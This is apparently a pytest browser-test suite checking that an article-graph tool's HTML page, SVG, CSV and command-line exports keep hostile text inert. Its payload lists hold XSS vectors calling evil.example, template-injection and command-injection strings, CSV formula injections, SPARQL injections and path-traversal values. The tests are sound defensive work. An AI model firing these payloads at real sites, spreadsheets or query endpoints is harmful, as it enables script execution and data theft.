"""What somebody who means harm may write into an article: it stays text, whatever field it stands in."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from akyn.exports.page.draw import page_html
from akyn.exports.page.page_data import page_data
from akyn.exports.page.queries import QUERIES as QUERIES_OF_THE_PAGE
from akyn.exports.page.story_network import story_network
from akyn.graph.reading.reading import (
    Claim,
    DocumentInfo,
    Entity,
    Event,
    EventTime,
    Name,
    OrderLink,
    Participant,
    Quantity,
    Reading,
    Relation,
    Span,
    text_sha256,
)
from akyn.graph.store import Store

pytestmark = pytest.mark.browser

HIT = "(window.hurt=window.hurt||[]).push(1)"
OUT = "//evil.example/x"

MARKUP = (
    f"<script>{HIT}</script>", f"<ScRiPt >{HIT}</sCrIpT >", f"<script src={OUT}></script>",
    f"<<script>{HIT}//<</script>", f"<img src=x onerror={HIT}>", f"<img/src='x'/onerror='{HIT}'/>", f"<IMG SRC={OUT}>",
    f'<img srcset="{OUT} 2x">', f"<svg onload={HIT}>", f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{HIT}><text y=9>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,{HIT}#x'/>",
    f"<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>", f"<math><mtext><img src=x onerror={HIT}>",
    f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>', f"<iframe src=javascript:parent.{HIT}></iframe>",
    f"<iframe src={OUT}></iframe>", f"<object data={OUT}></object>", f"<embed src={OUT}>", f"<body onload={HIT}>",
    f"<details open ontoggle={HIT}>", f"<video><source onerror={HIT} src=x></video>", f"<audio src=x onerror={HIT}>",
    f"<input autofocus onfocus={HIT}>", f"<select autofocus onfocus={HIT}>", f"<marquee onstart={HIT}>x</marquee>",
    f"<link rel=stylesheet href={OUT}>", f"<link rel=prefetch href={OUT}>", f"<base href={OUT}>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>", f"<form action={OUT}><button autofocus>x</button></form>",
    f"<button formaction=javascript:{HIT} form=save>x</button>", f"<style>@import '{OUT}';</style>",
    f"<style>*{{background:url({OUT})}}</style>", f"<div style='background:url({OUT})'>x</div>",
    f"<p style='width:expression({HIT})'>x</p>", f"<table background={OUT}><td>x</table>",
    f"<dialog open onclose={HIT}>x", f"<template><img src=x onerror={HIT}></template>",
    f"<a href=javascript:{HIT}>x</a>", f"<a href='data:text/html,<script>{HIT}</script>'>x</a>",
    f"<p title='</noscript><img src=x onerror={HIT}>'>", f"<div id=claims data-select=n0 onclick={HIT}>x</div>",
    f"<a id=akyn href={OUT}>x</a>", f"<x onanimationstart={HIT} style=animation:x>x</x>",
    "<img src=x onerror=&#40;window.hurt=window.hurt||[]&#41;.push&#40;1&#41;>",
    f"\uff1cscript\uff1e{HIT}\uff1c/script\uff1e", f"%3Cscript%3E{HIT}%3C/script%3E",
    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e", f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-", f'" onmouseover="{HIT}" x="', f"' onfocus='{HIT}' autofocus x='",
    f"` onload=`{HIT}`", "href", 'see <a href="https://example.org/">href</a>', f"<a href='vbscript:{HIT}'>href=</a>",
)  # fmt: skip

CLOSING = (
    "</script>", "</SCRIPT\t>", "</script/x>", "</style>", "</title>", "</textarea>", "</noscript>", "<noscript>",
    "</bdi>", "</blockquote>", "</body></html>", "<!--", "-->", "--!>", "<!-->", "<!--<script>", "<![CDATA[", "]]>",
    "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY e 'x'>]>", "&", "&amp;", "&#0;", "&#x202e;", "&NotAnEntity;", "<",
    "<>", "</", "<a", "<plaintext>",
)  # fmt: skip

TEMPLATES = (
    "{{ 7*7 }}", "{{ page.title }}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{% raw %}",
    "{% endraw %}", "{% endfor %}", "{% include 'story.html' %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "%(title)s", "%s%n", "{0}", "{self!r}", "`${window.hurt=[1]}`", "{{", "}}", '"],"nodes":[',
    '"};window.hurt=[1];//', "']];window.hurt=[1]//", "\\", "\\\\\"", "__proto__", "constructor", "toString",
    "hasOwnProperty", "null", "n0", "undefined", "NaN", "\u2028window.hurt=[1]", "\u2029window.hurt=[1]",
)  # fmt: skip

LINKS = (
    f"javascript:{HIT}", f"JaVaScRiPt:{HIT}", f" javascript:{HIT}", f"java\tscript:{HIT}", f"java\nscript:{HIT}",
    f"\x01javascript:{HIT}", f"javascript&colon;{HIT}", f"javascript://example.org/%0a{HIT}",
    f"data:text/html,<script>{HIT}</script>", "data:image/svg+xml,<svg/>", f"vbscript:{HIT}", "file:///etc/passwd",
    "blob:null/x", "about:blank", "view-source:https://example.org/", OUT, "\\\\evil.example\\x",
    f"https:javascript:{HIT}", "https://", "http://[", "ftp://example.org/",
    f"https://example.org/\"onmouseover=\"{HIT}", "https://user:word@example.org/", "https://example.org/<script>",
    "https://example.org/\u202egpj.exe", "https://example.org/?a='>\"<b>", "  https://example.org/  ",
    "mailto:x@example.org",
)  # fmt: skip

CELLS = (
    "=1+1", '=HYPERLINK("https://evil.example/","x")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", '"=1+1"', "x,=1+1",
    'x";=1+1;"', "'=1+1", "=\u202e1+1", "\uff1d1+1", "x\r\n=1+1", "%0A=1+1",
    "=IMPORTXML(CONCAT(\"https://evil.example\"),\"//a\")",
)  # fmt: skip

QUERIES = (
    '" } DROP ALL ; #', "> . <x:a> <x:b> <x:c", "'''", '"""', '\\"', "?x", "SERVICE <https://evil.example/> {}",
    "} INSERT DATA { <x:a> <x:b> <x:c> } #", "LOAD <https://evil.example/>", "\\u0022", "<https://example.org/a b>",
    "@prefix : <x:> .",
)  # fmt: skip

LETTERS = (
    *(f"turned{mark}round" for mark in "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"),
    "\u202e\u202e\u202e", "\u2067\u2066",
    *(f"zero{mark}width" for mark in "\u00ad\u180e\u200b\u200c\u200d\u2060\ufeff\u034f"), "\u200b", "\ufeff",
    *(f"control{mark}mark" for mark in "\x01\x02\x07\x08\x0b\x0c\x1b\x1f\x7f\x80\x85\x9b\x9f"), "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x07x", "\u0301", "\u0489\u0489\u0489", "a" + "\u0301\u0323\u0334" * 30,
    "\u0e49" * 40, "\u093e", "\u20dd", "\u05d0\u05d1\u05d2 (1) <b>", "\u0627\u0644\u0639\u0631\u0628 =1+1",
    "abc \u05d0\u05d1 123 \u05d2", "\u0001f\u202e\u05d0", "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U0001f1f0\U0001f1ec\U0001f1f0", "\U0001f3fd", "\u2764\ufe0f", "\ufe0f", "\U000e0041\U000e0042",
    "\ufff9x\ufffay\ufffb", "\ufffc", "\ufffd", "\uffff", "\ufffe", "\ue000", "\U0010ffff", "\U0001d504\U0001d505",
    "\ufdfd", "\U00012031", "W" * 3000, "\u6f22" * 800, "-" * 900, "/".join(["path"] * 200), "i " * 900,
    "\U0001f600" * 500, "\u2003\u3000x", "x" + " " * 500 + "y", "A\u030a\u00c5\u212b", "\u0130\u0131\u017f\ufb01",
    "\u1e9e", "CON", "../../etc/passwd", "..\\..\\x", "~", "-rf", "--output=x", "$(id)", "`id`", "; id", "| id",
    "a\tb",
)  # fmt: skip

ALL = (*MARKUP, *CLOSING, *TEMPLATES, *LINKS, *CELLS, *QUERIES, *LETTERS)

FIELDS = (
    "id",
    "title",
    "url",
    "source",
    "text",
    "cue",
    "person",
    "speaker",
    "described",
    "alias",
    "happened",
    "told",
    "unit",
    "figure",
    "relation",
)
"""The parts of an article that the items stand in, one of each in every document."""

DOCUMENTS = 30


def items(document: int) -> dict[str, str]:
    """What stands in each field of a document: over all documents every text comes in several fields."""
    texts = [field for field in FIELDS if field != "url"]
    first = document * len(texts)
    round_, moved = divmod(first, len(ALL))  # in each round through the texts they stand in other fields
    found = {field: ALL[(moved + (i + 5 * round_) % len(texts)) % len(ALL)] for i, field in enumerate(texts)}
    return {**found, "url": LINKS[document % len(LINKS)]}


class Pieces:
    """A text that is put together from pieces, which know where they stand."""

    def __init__(self) -> None:
        self.text = ""

    def add(self, piece: str) -> Span:
        """Put a piece at the end and say where it stands."""
        start = len(self.text) + bool(self.text)
        self.text = f"{self.text} {piece}" if self.text else piece
        return start, start + len(piece)


def hostile_reading(number: int) -> Reading:
    """A document with one item in each field: two events, one only told, three actors, a figure and a tie."""
    item, pieces = items(number), Pieces()
    mark = f" d{number}"
    passage, cue, figure = pieces.add(item["text"]), pieces.add(item["cue"]), pieces.add(item["figure"])
    person, speaker, alias, described = (
        pieces.add(item[field]) for field in ("person", "speaker", "alias", "described")
    )
    happened, told, tie = (pieces.add(item[field]) for field in ("happened", "told", "relation"))
    by = Participant(role="agent", entity="person")
    day = EventTime(edtf="2031-05-04", earliest="2031-05-04", latest="2031-05-04")
    return Reading(
        document=DocumentInfo(
            id=item["id"] + mark, sha256=text_sha256(pieces.text), title=item["title"] + mark, url=item["url"],
            published="2031-05-06", source=item["source"],
        ),
        text=pieces.text,
        sentences=((0, len(pieces.text)),),
        names=(Name(span=alias, label="PERSON"), Name(span=person, label="PERSON")),
        entities=(
            Entity(id="person", type=("Person",), mentions=(person, alias), name=item["person"] + mark),
            Entity(id="speaker", type=("Party",), mentions=(speaker,), name=item["speaker"] + mark),
            Entity(id="described", type=("Place",), mentions=(described,), description=item["described"] + mark),
        ),
        events=(
            Event(id="happened", type="Release", label=item["happened"] + mark, trigger=happened, mentions=(), time=day,
                  participants=(by, Participant(role="place", entity="described"))),
            Event(id="told", type="VoteBuying", label=item["told"] + mark, trigger=told, mentions=(),
                  participants=(by,)),
        ),
        relations=(Relation(id="tie", subject="person", predicate="supports", object="speaker", span=tie),),
        claims=(
            Claim(id="c1", speaker=None, content=(passage,), modality="asserted", states=("happened", "tie", "after"),
                  rule=item["cue"]),
            Claim(id="c2", speaker="speaker", content=(told,), modality="alleged", states=("told", "figure"), cue=cue,
                  within="c1"),
            Claim(id="c3", speaker="person", content=(happened,), modality="denied", denies=("told",)),
        ),
        order=(OrderLink(id="after", from_="happened", relation="before", to="told", level="explicit", signal=cue),),
        quantities=(Quantity(id="figure", span=figure, unit=item["unit"], of=("told",), value=3.0),),
    )  # fmt: skip


@pytest.fixture(scope="module")
def hostile_store(make_store: Callable[..., Store]) -> Store:
    """The story of all hostile documents."""
    return make_store(*map(hostile_reading, range(DOCUMENTS)))


@pytest.fixture(scope="module")
def hostile_page(hostile_store: Store) -> str:
    """Its page, under a hostile title."""
    return page_html(hostile_store, title=f"</title><script>{HIT}</script>{{{{ 7*7 }}}}\u202e")


OURS = (
    "a", "b", "bdi", "blockquote", "body", "br", "button", "canvas", "caption", "circle", "cite", "code", "dd", "defs",
    "details", "dialog", "div", "dl", "dt", "em", "fieldset", "footer", "form", "g", "h1", "h2", "h3", "h4", "head",
    "header", "html", "i", "input", "kbd", "label", "legend", "li", "line", "main", "mark", "marker", "meta", "nav",
    "noscript", "ol", "optgroup", "option", "p", "path", "polygon", "polyline", "pre", "q", "rect", "s", "script",
    "section", "select", "small", "span", "strong", "style", "sub", "summary", "sup", "svg", "table", "tbody", "td",
    "textarea", "text", "tfoot", "th", "thead", "time", "title", "tr", "tspan", "ul", "datalist", "output", "u",
)  # fmt: skip

STRANGE = """ours => [...document.querySelectorAll('*')].filter(e =>
  !ours.includes(e.localName)
  || [...e.attributes].some(a => /^on/i.test(a.name) || /^(srcdoc|formaction|action|ping|background)$/i.test(a.name))
  || ['src', 'href', 'xlink:href'].some(n => e.hasAttribute(n) && !/^(https?:\\/\\/|#)/.test(e.getAttribute(n)))
  || e.localName === 'a' && e.hasAttribute('href') && e.getAttribute('href')[0] !== '#'
     && !/\\bnoopener\\b.*\\bnoreferrer\\b/.test(e.rel)
).map(e => e.outerHTML.slice(0, 200))"""
"""Elements that no script of ours makes, and attributes that could run or fetch."""


def assert_unharmed(window: Any) -> None:
    """Nothing ran, nothing was asked for, nothing was said, and there is no element that is not ours."""
    assert window.page.evaluate("window.hurt ?? null") is None
    assert window.page.evaluate(STRANGE, OURS) == []
    assert window.faults == []


def test_there_are_enough_items_and_each_kind_stands_in_each_field() -> None:
    """Over 400, no two of the same text in the same field; each text somewhere, each family in half the fields."""
    found = {(field, text) for number in range(DOCUMENTS) for field, text in items(number).items()}
    assert len(found) >= 400
    assert {text for _, text in found} == set(ALL)
    for family in (MARKUP, CLOSING, TEMPLATES, LINKS, CELLS, LETTERS):
        assert len({field for field, text in found if text in family}) >= len(FIELDS) // 2


def choose_all(page: Any, every: int = 1) -> None:
    """Choose each node, edge and claim of the story, or one of some."""
    page.evaluate(
        """every => {
          const some = items => items.filter((_, i) => i % every === 0);
          for (const node of some(Object.keys(akyn.page.nodes))) akyn.choose({node});
          for (const {id} of some(akyn.page.edges)) akyn.choose({edge: id});
          for (const number of some([...akyn.page.claims.keys()])) akyn.choose({claims: [number]});
        }""",
        every,
    )


def test_every_view_of_everything_stays_text(open_page: Any, hostile_page: str) -> None:
    """Each node and each edge is chosen in each view, light and dark, wide and narrow, searched for and hovered."""
    window = open_page(hostile_page, viewport={"width": 1300, "height": 850})
    page = window.page
    assert page.evaluate("Object.keys(akyn.page.nodes).length") > 4 * DOCUMENTS
    for view in page.evaluate("[...document.querySelectorAll('[data-view]')].map(tab => tab.dataset.view)"):
        page.evaluate("view => akyn.state.set({view})", view)
        window.settle()
        choose_all(page, every=1 if view == "picture" else 7)
        page.evaluate("akyn.choose({pair: akyn.story.events.slice(0, 2)})")
        page.evaluate("akyn.choose({path: akyn.story.things.slice(0, 2)})")
        page.evaluate("akyn.choose({nodes: Object.keys(akyn.page.nodes).slice(0, 3)})")
        assert_unharmed(window)
    page.evaluate("akyn.state.set({view: 'picture', selection: null})")
    window.settle()
    for x in range(330, 950, 31):
        page.mouse.move(x, 150 + x % 300)
        page.wait_for_timeout(20)
    page.wait_for_timeout(300)
    assert_unharmed(window)
    page.evaluate("for (const id of akyn.story.things.slice(0, 40)) akyn.state.set({scene: {near: id}})")
    page.evaluate("akyn.state.set({scene: null, view: 'picture'})")
    for text in ALL[::9]:
        page.evaluate("words => akyn.state.set({words})", text)
    page.evaluate("akyn.state.set({words: ''})")
    page.emulate_media(color_scheme="dark")
    page.set_viewport_size({"width": 390, "height": 844})
    window.settle()
    assert_unharmed(window)


def test_text_is_shown_as_it_is_written(open_page: Any, hostile_page: str) -> None:
    """Labels, passages and titles appear letter by letter, and what could turn the writing is isolated."""
    page = open_page(hostile_page, viewport={"width": 1300, "height": 850}).page
    wrong = page.evaluate("""() => Object.entries(akyn.page.nodes).filter(([id, node]) => {
      akyn.choose({node: id});
      const heading = document.querySelector('#claims h3');
      return heading.textContent !== node.label || !heading.querySelector('bdi');
    }).map(([, node]) => node.label)""")
    assert wrong == []
    wrong = page.evaluate("""() => akyn.page.claims.filter((claim, number) => {
      akyn.choose({claims: [number]});
      const exact = [...document.querySelectorAll('mark.exact')].map(e => e.textContent).join('');
      const text = document.querySelector('#document .text').textContent;
      return exact !== claim.quote || text !== akyn.page.documents[claim.document].text;
    }).map(({quote}) => quote)""")
    assert wrong == []
    assert page.title().startswith("</title><script>")


def test_what_the_store_would_refuse_stays_text_too(open_page: Any, make_store: Callable[..., Store]) -> None:
    """Rows in which dates, classes, kinds of tie and statuses are hostile: refused, or text like everything else."""
    few = make_store(*map(hostile_reading, range(12)))
    answers = {
        kind: [{name: term.value for name, term in zip(table.columns, row, strict=True) if term} for row in table.rows]
        for kind, table in ((kind, few.select(sparql)) for kind, sparql in QUERIES_OF_THE_PAGE.items())
    }
    places = (("statements", "predicate"), ("events", "type"), ("claims", "cue"), ("statements", "unit"))
    for kind, column in places:
        answers[kind] = [{**row, column: ALL[i % len(ALL)]} for i, row in enumerate(answers[kind])]
    window = open_page(story_network(page_data(answers, title="Hostile")).generate_html())
    choose_all(window.page)
    assert_unharmed(window)


SIDEWAYS = """[...document.querySelectorAll('html, header, main, main > *, .scrolls, #views, #claims, #document')]
  .filter(e => e.checkVisibility() && e.scrollWidth > e.clientWidth + 1)
  .map(e => `${e.localName}#${e.id} ${e.scrollWidth} > ${e.clientWidth}`)"""


@pytest.mark.parametrize("width", [390, 1300])
def test_words_without_end_widen_nothing(open_page: Any, hostile_page: str, width: int) -> None:
    """Thousands of letters without a blank, in each place where a text can stand."""
    window = open_page(hostile_page, viewport={"width": width, "height": 850})
    page = window.page
    panels = page.evaluate("[...document.querySelectorAll('#views [data-panel]')].map(button => button.dataset.panel)")
    for panel in panels:
        page.evaluate("name => akyn.panels.show(name)", panel)
        window.settle()
        assert page.evaluate(SIDEWAYS) == [], panel
    page.evaluate("akyn.panels.show('evidence')")
    for selection in page.evaluate(
        """() => [
          ...Object.entries(akyn.page.nodes).filter(([, {label}]) => label.length > 300).map(([node]) => ({node})),
          ...akyn.page.edges.filter(({from}) => akyn.page.nodes[from].label.length > 300).map(({id}) => ({edge: id})),
          ...akyn.page.claims.flatMap(({quote}, number) => quote.length > 300 ? [{claims: [number]}] : []),
        ]"""
    ):
        page.evaluate("selection => akyn.choose(selection)", selection)
        assert page.evaluate(SIDEWAYS) == [], selection


def test_links_lead_to_the_web_only(open_page: Any, hostile_page: str) -> None:
    """Every other address is not there at all; those that are open without telling where one comes from."""
    page = open_page(hostile_page).page
    urls = page.evaluate("akyn.page.documents.map(item => item.url).filter(Boolean)")
    assert urls
    assert all(url.startswith(("https://", "http://")) for url in urls)
    assert not any(char in url for url in urls for char in '\u202e\n\t"<> ')


WORDS = (
    "node", "nodes", "tie", "claims", "order", "path", "without", "status-without", "modality-without", "speaker",
    "document", "theme", "days", "words", "near", "cell", "view",
)  # fmt: skip
"""The names in an address of the page."""


def test_a_hostile_address_of_the_page_does_nothing(open_page: Any, html: str) -> None:
    """Whatever stands after #: it is a selection or nothing."""
    window = open_page(
        html, hash=f"#node={MARKUP[0]}&claims=-1.x.999&view=constructor&without=__proto__&near={LINKS[0]}"
    )
    assert_unharmed(window)
    for text in ALL[::11]:
        window.page.evaluate(
            "([words, text]) => { location.hash = new URLSearchParams(words.map(word => [word, text])).toString(); }",
            [WORDS, text],
        )
        for word in WORDS:
            window.page.evaluate("([word, text]) => { location.hash = `${word}=${text}`; }", [word, text])
        window.settle()
        assert window.page.evaluate("akyn.state.get().selection") is None
    assert_unharmed(window)


def test_without_scripts_everything_is_text_too(open_page: Any, hostile_page: str) -> None:
    """The record in the HTML itself: no element, link or image of the documents' making."""
    window = open_page(hostile_page, java_script_enabled=False)
    page = window.page
    html = page.content()
    assert page.locator("iframe, img, object, embed, video, audio, input:visible, svg:visible, base, link").count() == 0
    assert page.locator(".record li").count() >= 2 * DOCUMENTS
    for link in page.locator("a").all():
        assert str(link.get_attribute("href")).startswith(("https://", "http://"))
        assert link.get_attribute("rel") == "noopener noreferrer"
    assert "evil.example" in html
    assert window.faults == []


def test_answers_stay_text(open_page: Any, hostile_page: str) -> None:
    """Every stock question, told hostile things where it asks for something; all labels by SPARQL; a fault in one."""
    window = open_page(hostile_page, hash="#view=questions", viewport={"width": 1300, "height": 850})
    page = window.page
    page.evaluate("akyn.questions.built")
    names = page.evaluate("[...document.querySelectorAll('[data-question]')].map(card => card.dataset.question)")
    assert len(names) >= 10
    for number, name in enumerate(names):
        page.evaluate("name => akyn.questions.open(name)", name)
        for field in page.locator("#stock form input").all():
            field.fill(QUERIES[number % len(QUERIES)])
        if page.locator("#stock form [type=submit]").count():
            page.locator("#stock form [type=submit]").click()
        window.settle()
    found = page.evaluate("akyn.questions.sparql.ask('SELECT ?label { ?x rdfs:label|nif:anchorOf ?label }')")
    assert len(found["rows"]) > 4 * DOCUMENTS
    page.evaluate("async () => (await akyn.questions.built).editor.set('SELECT ?label { ?x rdfs:label ?label }')")
    page.locator("#questions .ways button").last.click()
    page.locator("#console [type=submit]").click()
    page.locator("#console tbody tr").first.wait_for()
    assert any("<script>" in cell for cell in page.locator("#console td").all_inner_texts())
    page.evaluate("async text => (await akyn.questions.built).editor.set(text)", MARKUP[0])
    page.locator("#console [type=submit]").click()
    page.locator("#query-fault:visible").wait_for()
    assert_unharmed(window)


def test_what_is_printed_and_saved_is_well_formed_and_inert(open_page: Any, hostile_page: str) -> None:
    """The print, and the graph as SVG: XML in spite of control characters, without scripts, links or handlers."""
    window = open_page(hostile_page, viewport={"width": 1300, "height": 850})
    page = window.page
    page.locator("#save summary").click()
    with page.expect_download() as download:
        page.locator("#save button", has_text="SVG").click()
    root = ElementTree.fromstring(Path(download.value.path()).read_text("utf-8"))
    for element in root.iter():
        assert element.tag.rpartition("}")[2] not in ("script", "foreignObject", "a", "image", "use", "animate")
        assert not [name for name in element.attrib if name.lower().startswith("on") or name.endswith("href")]
    assert page.pdf()[:5] == b"%PDF-"
    assert_unharmed(window)


def test_a_saved_table_runs_nothing_in_a_spreadsheet(open_page: Any, hostile_page: str) -> None:
    """No cell of a CSV file starts like a formula; the text is still there."""
    page = open_page(hostile_page, viewport={"width": 1300, "height": 850}).page
    buttons = page.locator("#save button", has_text="CSV")
    assert buttons.count() == 1
    for number in range(buttons.count()):
        page.locator("#save summary").click()
        with page.expect_download() as download:
            buttons.nth(number).click()
        path = download.value.path()
        rows = list(csv.reader(io.StringIO(Path(path).read_text("utf-8-sig"), newline="")))
        assert len(rows) > DOCUMENTS
        assert len({len(row) for row in rows}) == 1
        assert not [
            cell
            for row in rows
            for cell in row
            if (cell[:1] in "=+@\t\r" and cell[:1]) or (cell[:1] == "-" and not cell[1:2].isdigit())
        ]
        assert any("=HYPERLINK" in cell for row in rows for cell in row)
        if page.locator("#save").get_attribute("open") is not None:
            page.locator("#save summary").click()


COMMAND = "import sys; from akyn.exports.cli import main; sys.exit(main())"
FILES = (
    "<script>window.hurt=[1]</script>",
    "{{ 7*7 }} & {% raw %}",
    "=cmd|' C calc'!A0",
    "a\u202etxt.exe",
    "quote\"'`$(id)",
    "--output=x",
)
ARTICLE = (
    "{0} Dockers marched on 4 May 2031. Police freed Ada Brook after the march. "
    "The mayor of Bishkek denied that the {1} party bought votes."
)


def test_articles_that_the_reader_has_read_stay_text(open_page: Any, tmp_path: Path) -> None:
    """The whole way: files with hostile names and texts, read and drawn by the command line into a hostile name."""
    folder = tmp_path / "articles"
    folder.mkdir()
    for number, name in enumerate(FILES):
        text = ARTICLE.format(MARKUP[number * 5], CLOSING[number * 3])
        folder.joinpath(f"{name.replace('/', '')}.txt").write_text(text, encoding="utf-8")
        folder.joinpath(f"{name.replace('/', '')}.json").write_text(
            json.dumps(
                {
                    "title": MARKUP[number * 7 + 1] + LETTERS[number],
                    "url": LINKS[number * 4],
                    "source": TEMPLATES[number],
                    "published": "2031-05-05",
                }
            ),
            encoding="utf-8",
        )
    page = tmp_path / "<img src=x onerror=window.hurt=[1]> {{ 7*7 }} #?%41.html"
    story = tmp_path / "{{ 7*7 }}<script>window.hurt=[1]<"
    for command in (
        ["read", "--any-language", "--story", str(story), str(folder)],
        ["draw", "--story", str(story), "-o", str(page)],
    ):
        done = subprocess.run([sys.executable, "-c", COMMAND, *command], capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stderr
    window = open_page(page)
    assert window.page.evaluate("akyn.page.documents.length") == len(FILES)
    assert window.page.evaluate("akyn.story.events.length") > 0
    choose_all(window.page)
    assert_unharmed(window)
